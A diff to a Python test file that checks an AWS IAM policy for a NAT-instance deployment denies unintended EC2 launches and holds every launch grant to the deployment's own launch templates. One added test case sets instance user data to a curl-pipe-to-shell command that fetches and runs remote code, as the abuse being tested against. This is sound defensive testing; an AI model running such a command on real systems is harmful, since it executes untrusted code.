@@ -331,6 +331,39 @@ def launch_another_image(d):
     )
 
 
+def launch_our_image_without_a_template(d):
+    """Our image, ENIs and tags, but the user data, type and profile of the call's choosing."""
+    zone = d.world.zones[AZ_A]
+    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": NAME}]
+    return reconciler_ec2(d).run_instances(
+        ImageId=d.facts.image_id,
+        MinCount=1,
+        MaxCount=1,
+        UserData="#!/bin/sh\ncurl http://example.com/x | sh",
+        NetworkInterfaces=[
+            {"NetworkInterfaceId": zone.public_eni_id, "DeviceIndex": 0},
+            {"NetworkInterfaceId": zone.private_eni_id, "DeviceIndex": 1},
+        ],
+        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
+    )
+
+
+def launch_from_our_template_with_another_image(d):
+    zone = d.world.zones[AZ_A]
+    tags = [{"Key": "nat-zero:managed", "Value": "true"}, {"Key": "nat-zero:deployment", "Value": NAME}]
+    return reconciler_ec2(d).run_instances(
+        LaunchTemplate={"LaunchTemplateId": zone.launch_template_id, "Version": "$Latest"},
+        ImageId=d.facts.image_id,
+        MinCount=1,
+        MaxCount=1,
+        NetworkInterfaces=[
+            {"NetworkInterfaceId": zone.public_eni_id, "DeviceIndex": 0},
+            {"NetworkInterfaceId": zone.private_eni_id, "DeviceIndex": 1},
+        ],
+        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
+    )
+
+
 def another_template(d):
     template = d.ec2.create_launch_template(LaunchTemplateName="other", LaunchTemplateData={"ImageId": AMI})
     return template["LaunchTemplate"]["LaunchTemplateId"]
@@ -381,6 +414,18 @@ OUTSIDE = {
     "launch_from_another_template": (
         lambda d: our_run_instances(d, template=another_template(d)),
         "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:launch-template/lt-",
+    ),
+    "launch_our_image_without_a_template": (
+        launch_our_image_without_a_template,
+        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:instance/*",
+    ),
+    "launch_the_image_named_in_the_call_not_the_templates": (
+        launch_from_our_template_with_another_image,
+        f"ec2:RunInstances on arn:aws:ec2:us-east-1::image/{AMI}",
+    ),
+    "launch_another_templates_instance": (
+        lambda d: our_run_instances(d, template=another_template(d)),
+        "ec2:RunInstances on arn:aws:ec2:us-east-1:123456789012:instance/*",
     ),
     "launch_another_image": (
         launch_another_image,
@@ -483,3 +528,16 @@ def test_passing_a_role_is_limited_to_the_nat_instance_role_for_ec2(deployment):
     passes = [s for s in deployment.policy["Statement"] if "iam:PassRole" in s["Action"]]
     assert [s["Resource"] for s in passes] == [[deployment.facts.instance_role_arn]]
     assert passes[0]["Condition"] == {"StringEquals": {"iam:PassedToService": "ec2.amazonaws.com"}}
+
+
+def test_every_launch_grant_is_held_to_this_deployments_launch_templates(deployment):
+    templates = sorted(
+        f"arn:aws:ec2:{REGION}:{DEFAULT_ACCOUNT_ID}:launch-template/{z['launch_template_id']}"
+        for z in deployment.facts.zones.values()
+    )
+    launches = [s for s in deployment.policy["Statement"] if "ec2:RunInstances" in s["Action"]]
+    assert launches
+    for statement in launches:
+        assert sorted(statement["Condition"]["ArnEquals"]["ec2:LaunchTemplate"]) == templates, statement["Sid"]
+    [image] = [s for s in launches if any(":image/" in r for r in s["Resource"])]
+    assert image["Condition"]["Bool"] == {"ec2:IsLaunchTemplateResource": "true"}
